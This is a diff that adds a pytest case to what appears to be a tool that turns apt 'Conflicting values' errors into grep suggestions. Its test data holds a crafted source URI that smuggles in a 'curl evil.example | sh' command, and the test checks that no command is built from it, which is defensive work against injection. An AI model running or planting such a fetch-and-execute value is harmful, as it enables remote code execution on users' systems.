@@ -211,6 +211,13 @@ def test_sources_in_conflict_are_named_by_their_files() -> None:
     assert f"grep -r {URI.split('/')[2]} /etc/apt" in str(found)
 
 
+def test_what_is_no_host_stands_in_no_command() -> None:
+    uri = "http://x;{curl,-s,evil.example}|sh/"
+    found = recognised(f"E: Conflicting values set for option Signed-By regarding source {uri} jammy: a != b")
+    assert found is not None
+    assert "grep" not in str(found)
+
+
 @pytest.mark.parametrize("option", ["Trusted", "Check-Valid-Until"])
 def test_sources_in_conflict_about_an_option_without_values_are_named_by_it(option: str) -> None:
     printed = (
